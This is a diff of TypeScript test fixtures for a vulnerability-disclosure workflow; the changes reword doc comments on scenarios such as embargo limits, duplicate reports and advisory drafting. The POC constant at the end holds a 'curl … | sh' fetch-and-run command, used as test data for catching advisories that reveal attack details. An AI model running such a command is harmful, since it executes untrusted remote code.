@@ -99,7 +99,7 @@ export const deferred = (scenario = rated()) =>
 export const isPublic = (scenario: MultiCaseScenario) =>
   both(scenario, { verb: 'signal.public', case: ONE, link: 'https://forum.example/1' })
 
-/** Attacks were observed while the case's texts were leaving, so its severity was not raised. */
+/** Attacks were observed while the mails of the release were being sent, so the severity was not raised. */
 export const attackedThough = (scenario: MultiCaseScenario, id = ONE): MultiCaseScenario =>
   scenario.happens(id, { type: 'AttacksObserved', signal: `${id}/s1` })
 
@@ -118,7 +118,7 @@ export function arrived(scenario: MultiCaseScenario): MultiCaseScenario {
   return scenario
 }
 
-/** Somebody else also reported the vulnerability, after the other reporters were asked. */
+/** Somebody else also reported the vulnerability, after the other reporters were asked to check the patch. */
 export const unasked = (scenario: MultiCaseScenario) =>
   scenario.happens(ONE, {
     type: 'ReportAttached',
@@ -156,7 +156,7 @@ export function lastMail(scenario: MultiCaseScenario): MessageId {
   return mail.message
 }
 
-/** A patch by Ben, or another one. */
+/** A patch by Ben, with this hash. */
 export const patchOf = (sha256 = HASH) =>
   ({ verb: 'patch', case: ONE, sha256, blob: BLOB, fileName: 'fix.patch' }) as const
 
@@ -249,7 +249,7 @@ export const expired = (scenario: MultiCaseScenario): MultiCaseScenario =>
 export const withMaintainer = policyOf('team', { people: [ANA, BEN, { ...CEM, roles: ['maintainer'] }] })
 export const invited = () => after(received(withMaintainer), { verb: 'people.invite', case: ONE, person: cem })
 
-/** The list keeps a secret for so many days. */
+/** The list keeps a secret for at most this many days. */
 export const mostDays = (most: number): Policy => {
   const policy = policyOf()
   const lists = policy.prenotification.lists.map((list) => ({ ...list, mostDays: most }))
@@ -262,12 +262,12 @@ export const twoProjects: Policy = (() => {
   return { ...policy, projects: [...policy.projects, ...others] }
 })()
 
-/** Closed as nothing, and the reporter wrote once more. */
+/** The case was closed as not a vulnerability, and then the reporter wrote again. */
 export const writtenAfterClosing = (): MultiCaseScenario =>
   mailed(after(acknowledged(), { verb: 'triage', case: ONE, disposition: 'invalid', reason: 'by design' }))
 
-/** The line that once went out to the announcement list and to oss-security. */
+/** A line that was once sent by mistake to the announcement list and to oss-security. */
 export const POC = 'PoC: /etc/motd with curl http://127.0.0.1:8080/x | sh'
-/** The impact shows how to attack. */
+/** The text about the impact shows how to attack. */
 export const tellsHow = (scenario: MultiCaseScenario, id = ONE): MultiCaseScenario =>
   scenario.happens(id, { type: 'AdvisoryDrafted', component: 'the loader', impact: `Reads files.\n${POC}` })
